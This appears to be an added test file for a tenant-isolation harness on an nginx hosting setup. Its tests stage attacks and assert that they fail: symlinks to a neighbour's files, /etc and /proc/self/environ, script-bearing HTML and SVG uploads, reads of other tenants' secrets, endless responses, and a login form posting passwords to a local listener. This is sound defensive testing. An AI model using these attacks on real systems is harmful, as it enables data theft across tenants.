@@ -1,0 +1,127 @@
+"""Attacks through what is served: attachments, and an application that answers as it likes."""
+
+# ruff: noqa: E501 - the scripts stand as they are run
+from __future__ import annotations
+
+from tests.machine.tenants.attack import attack
+from tests.machine.tenants.ground import MARK, Ground
+from tests.machine.tenants.words import hostile
+
+
+def fetched(g: Ground, path: str) -> tuple[int, str, bytes]:
+    """What the site answers to anybody."""
+    status, kind, body = g.machine.fetch(path, host="serveur")
+    assert MARK.encode() not in body, f"{path} is served: {body[:100]!r}"
+    return status, kind, body
+
+
+@attack("")
+def media_links_out(g: Ground) -> None:
+    """Links in `media`, and in the static files, lead to the settings, to a neighbour's attachments, to nginx's and root's."""
+    g.tenant(
+        "cd ~/media; ln -s ../biomaid/instance_settings.py a.txt; ln -s /home/other/media b; ln -s /home/other/media/letter.txt c.txt; ln -s /etc e; ln -s /home/other/biomaid f; ln -s /proc/self/environ p.txt;"
+        "mkdir -p ~/staticfiles/x; cd ~/staticfiles/x; ln -s /home/other/media b; ln -s /home/other/biomaid f; ln -s /etc e"
+    )
+    for folder in ("/media", "/static/x"):
+        for path in ("b/letter.txt", "e/passwd", "f/manage.py", "f/.git/config"):
+            status, _kind, body = fetched(g, f"{folder}/{path}")
+            assert status != 200, f"{folder}/{path}: {body[:60]!r}"
+    for path in ("/media/c.txt", "/media/p.txt"):
+        assert fetched(g, path)[0] != 200, path
+
+
+@attack("")
+def media_is_a_link(g: Ground) -> None:
+    """`~/media`, `~/staticfiles` and `~/biomaid.sock` themselves lead to the neighbour's."""
+    g.tenant(
+        "cd; mv media m; ln -s /home/other/media media; mv staticfiles s; ln -s /home/other/biomaid staticfiles; ln -s /home/other/biomaid m/x"
+    )
+    for path in ("/media/letter.txt", "/static/manage.py", "/static/.git/config"):
+        status, _kind, body = fetched(g, path)
+        assert status != 200, f"{path}: {body[:60]!r}"
+
+
+@attack("")
+def media_hidden_and_html(g: Ground) -> None:
+    """Hidden files, HTML, SVG and scripts in `media`, in the site's name."""
+    g.tenant(
+        "cd ~/media; echo x >.hidden; mkdir .git; echo x >.git/config; for e in html htm svg js xml xhtml swf mht css HTML svgz html.gz pdf.html php; do echo '<script>alert(1)</script>' >x.$e; done; printf 'GIF89a' >x.png; printf '%%PDF-1.4' >x.pdf; chmod -R a+rX ."
+    )
+    for path in ("/media/.hidden", "/media/.git/config", "/media/./.hidden"):
+        assert fetched(g, path)[0] in (403, 404), path
+    script = "curl -s -o /dev/null -D - -H 'Host: serveur' http://127.0.0.1/media/x.{}"
+    for end in ("html", "htm", "svg", "js", "xml", "xhtml", "swf", "HTML", "svgz", "php", "pdf.html"):
+        heads = g.root(script.format(end)).lower()
+        assert (
+            "200" not in heads.splitlines()[0]
+            or "content-disposition: attachment" in heads
+            or "application/octet-stream" in heads
+        ), f"{end}: {heads}"
+        assert "nosniff" in heads, f"{end}: {heads}"
+    for end in ("png", "pdf"):
+        heads = g.root(script.format(end)).lower()
+        assert "nosniff" in heads and "200" in heads.splitlines()[0], heads
+
+
+@attack("")
+def neighbours_home(g: Ground) -> None:
+    """The tenant looks around: the neighbour's home and socket, backups, states, logs, units, root's folders."""
+    for path in (
+        "/home/other/biomaid", "/home/other/media/letter.txt", "/home/other/biomaid.sock", "/var/backups/other", "/var/backups/demo/x", "/var/lib/jalon/biomaid/other/secrets.toml",
+        "/var/lib/jalon/biomaid/demo/secrets.toml", "/var/lib/jalon/biomaid/demo/replaced", "/var/lib/jalon/biomaid/demo/journal.jsonl", "/var/log/biomaid-backup-other.log", "/var/log/nginx/error.log",
+    ):  # fmt: skip
+        done = g.machine.sh(f"cat {path} 2>&1 || ls {path}/ 2>&1", user="demo", check=False)
+        assert done.returncode != 0, f"{path}: {done.stdout[:100]}"
+    connected = g.machine.sh(
+        "curl -s -m 5 --unix-socket /home/other/biomaid.sock -H 'Host: serveur' http://serveur/ -o /dev/null",
+        user="demo",
+        check=False,
+    )
+    assert connected.returncode != 0, "the neighbour's socket takes its requests"
+
+
+@attack("")
+def application_drips(g: Ground) -> None:
+    """The application answers three bytes every three seconds, without end, and nginx hands each on at once."""
+    hostile(g, "[('Content-Type','text/html'),('X-Accel-Buffering','no')]", body="drip()")
+    g.verify("service", "nginx")
+
+
+@attack("")
+def application_floods(g: Ground) -> None:
+    """The application answers without end, as fast as it goes."""
+    hostile(g, "[('Content-Type','text/html'),('X-Accel-Buffering','no')]", body="flood()")
+    g.verify("service", "nginx")
+
+
+@attack("")
+def application_lies_about_length(g: Ground) -> None:
+    """A length below nothing, a redirect without end, a page of a million forms."""
+    hostile(
+        g,
+        "[('Content-Type','text/html'),('Location','/?'+'x'*3000)]",
+        "'302 Found'",
+        "[b'<form><input type=password name=x>'*30000]",
+    )
+    g.verify("service", "nginx")
+    g.jalon(
+        "verify", "biomaid", "--instance", "demo", "--trials", "--only", "service", "--format", "json", deadline=150
+    )
+
+
+@attack("")
+def sign_in_elsewhere(g: Ground) -> None:
+    """The form for signing in sends name and password to another host."""
+    g.background(
+        'exec python3 -c \'import socket; s=socket.socket(); s.bind(("127.0.0.1",8098)); s.listen(); open("/tmp/listens","w")\nwhile True:\n c,a=s.accept(); open("/canary/password","ab").write(c.recv(65536)); c.close()\'',
+        user="passant",
+    )
+    hostile(
+        g,
+        "[('Content-Type','text/html')]",
+        body="[b'<form method=post action=\"http://127.0.0.1:8098/\"><input type=text name=username><input type=password name=password></form>']",
+    )
+    g.jalon(
+        "verify", "biomaid", "--instance", "demo", "--trials", "--only", "service", "--format", "json", deadline=150
+    )
+    assert not g.root("cat /canary/password 2>/dev/null || true"), "the account's password went to another program"
